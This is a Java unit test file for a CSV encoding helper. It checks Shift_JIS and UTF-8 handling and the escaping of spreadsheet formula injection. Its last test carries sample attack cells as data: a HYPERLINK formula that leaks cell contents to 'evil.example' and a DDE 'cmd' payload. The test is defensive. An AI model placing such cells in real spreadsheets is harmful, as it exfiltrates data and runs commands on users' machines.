package com.kaeru.backend.platform.text;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.Writer;
import java.nio.charset.Charset;

import com.kaeru.backend.platform.errors.InvalidValueException;
import org.junit.jupiter.api.Test;

class CsvEncodingTest {

    @Test
    void acceptsTheNamesPeopleUseForBothEncodings() {
        assertThat(CsvEncoding.of(null)).isEqualTo(CsvEncoding.UTF_8);
        assertThat(CsvEncoding.of("utf8")).isEqualTo(CsvEncoding.UTF_8);
        for (String name : new String[] {"Shift_JIS", "SJIS", "cp932", "MS932", "Windows-31J"}) {
            assertThat(CsvEncoding.of(name)).as(name).isEqualTo(CsvEncoding.SHIFT_JIS);
        }
        assertThatThrownBy(() -> CsvEncoding.of("EUC-JP")).isInstanceOf(InvalidValueException.class);
    }

    @Test
    void shiftJisKeepsWhatCp932HoldsAndMapsTheRestSafely() {
        CsvEncoding sjis = CsvEncoding.SHIFT_JIS;
        assertThat(sjis.safe("髙橋 ①㈱ ｶﾀｶﾅ")).isEqualTo("髙橋 ①㈱ ｶﾀｶﾅ");
        assertThat(sjis.safe("10〜20 −5 ‖ —")).isEqualTo("10～20 －5 ∥ ―");
        assertThat(sjis.safe("Émilie Müller")).isEqualTo("Emilie Muller");
        assertThat(sjis.safe("花子🌸")).isEqualTo("花子?");
        assertThat(CsvEncoding.UTF_8.safe("花子🌸")).isEqualTo("花子🌸");
    }

    @Test
    void theWriterNeverFailsHalfwayThroughAFile() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (Writer writer = CsvEncoding.SHIFT_JIS.writer(out, true)) {
            writer.write("返品🌸\uD800");
        }
        assertThat(new String(out.toByteArray(), Charset.forName("windows-31j"))).isEqualTo("返品??");

        ByteArrayOutputStream utf8 = new ByteArrayOutputStream();
        try (Writer writer = CsvEncoding.UTF_8.writer(utf8, true)) {
            writer.write("返品");
        }
        assertThat(utf8.toByteArray()).startsWith(0xEF, 0xBB, 0xBF);
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsAFormulaAreShownAsText() {
        assertThat(CsvEncoding.UTF_8.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        assertThat(CsvEncoding.SHIFT_JIS.cell("@SUM(1+1)*cmd|'/C calc'!A0")).isEqualTo("'@SUM(1+1)*cmd|'/C calc'!A0");
        for (String risky : new String[] {"+81 90", "-2+3", "\tx", "\rx"}) {
            assertThat(CsvEncoding.UTF_8.cell(risky)).as(risky).isEqualTo("'" + risky);
        }
        assertThat(CsvEncoding.UTF_8.cell("山田 花子")).isEqualTo("山田 花子");
        assertThat(CsvEncoding.UTF_8.cell("a=b")).isEqualTo("a=b");
        assertThat(CsvEncoding.UTF_8.cell(-500L)).isEqualTo(-500L);
        assertThat(CsvEncoding.UTF_8.cell(null)).isNull();
    }
}
